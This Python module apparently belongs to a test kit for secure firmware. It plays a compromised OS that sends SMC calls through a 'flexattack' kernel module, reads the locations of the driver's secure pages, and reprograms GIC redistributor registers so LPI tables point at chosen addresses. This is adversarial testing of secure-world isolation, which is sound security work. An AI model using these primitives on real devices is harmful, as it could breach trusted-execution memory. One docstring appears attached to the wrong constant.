"""The compromised OS: drives the kernel module ``flexattack`` on a board; the ABI's numbers come from its headers."""

from __future__ import annotations

import re
from dataclasses import dataclass

from flexkit import paths
from flexkit.deadline import Deadline
from flexkit.link.client import Client

_DEFINE = re.compile(r"^#define (FLEX_\w+) \(?([^/\n]*?)\)?\s*(?:/\*.*)?$", re.MULTILINE)
PATTERN = 0xC0FFEE0000000000
LPIS_ON = 1
"""GICR_CTLR.EnableLPIs."""
_PENDBASER = 0x78
"""What secret pages are filled with; the number of the word is added."""
_DEBUGFS = "/sys/kernel/debug/flexattack"


def abi() -> dict[str, int]:
    """Every numeric FLEX_ constant of firmware/abi, evaluated in order of definition."""
    known: dict[str, int] = {}
    for name in ("page.h", "mailbox.h", "smc.h", "payload.h"):
        text = (paths.project() / "firmware/abi/flexkit" / name).read_text()
        for constant, body in _DEFINE.findall(text):
            words = re.sub(r"FLEX_\w+", lambda found: str(known.get(found.group(), found.group())), body)
            if re.fullmatch(r"[0-9a-fA-Fx+\-*<() ]+", words):
                known[constant] = int(eval(words, {"__builtins__": {}}))
    return known


@dataclass
class Attacker:
    """Commands of flexattack. ``result`` values are numbers where they look like it."""

    client: Client
    seconds: float = 30.0

    def run(self, command: str) -> dict[str, int]:
        """One command; its result lines. Raises AssertionError when it could not even be tried."""
        text = self.client.check(
            f"echo '{command}' > {_DEBUGFS}/cmd && cat {_DEBUGFS}/result", Deadline(self.seconds, command)
        )
        result = {key: int(value, 0) for key, value in (line.split(": ") for line in text.splitlines())}
        assert result["status"] == 0, f"{command}: flexattack could not try it: {result}"
        return result

    def smc(self, *registers: int) -> dict[str, int]:
        return self.run("smc " + " ".join(f"{value:#x}" for value in registers))

    def payload(self, *registers: int) -> dict[str, int]:
        """A call of the payload to its end: an interrupt of the normal world may come between, then it is resumed."""
        numbers = abi()
        answer = self.smc(numbers["FLEX_TOS_START"], *registers)
        while answer["x0"] == numbers["FLEX_TOS_PREEMPTED"]:
            answer = self.smc(numbers["FLEX_TOS_RESUME"], answer["x1"], 0)
        return answer

    def batch(self, function: int, first: int, count: int, *pages: int) -> dict[str, int]:
        return self.run(f"batch {function:#x} {first} {count} " + " ".join(f"{page:#x}" for page in pages))

    def own_pages(self, count: int) -> list[int]:
        """Pages of the module's own, zeroed; the addresses of the first eight."""
        self.run(f"alloc {count}")
        listed = self.run("list")
        return [value for key, value in listed.items() if key.startswith("page")]

    def driver_pages(self) -> list[int]:
        """Where the driver's secure pages lie: Linux has to know, it manages them."""
        text = self.client.check("cat /sys/kernel/debug/flexserve/pages", Deadline(self.seconds, "pages"))
        rows = [line.split() for line in text.splitlines()]
        return [int(row[1], 0) for row in rows if len(row) >= 2 and row[1].startswith("0x")]

    def aim_redistributor(self, frame: int, core: int, address: int) -> bool:
        """Write a table's address and "LPIs on" to a redistributor's first frame: has any of it come to be?"""
        pending = self.run(f"access r {frame + _PENDBASER:#x} {core}")["value"]
        assert self.run(f"access w {frame + _PENDBASER:#x} {core} {address:#x}")["ret"] == 0
        assert self.run(f"access w4 {frame:#x} {core} {LPIS_ON:#x}")["ret"] == 0
        moved = self.run(f"access r {frame + _PENDBASER:#x} {core}")["value"] != pending
        return moved or bool(self.run(f"access r4 {frame:#x} {core}")["value"] & LPIS_ON)
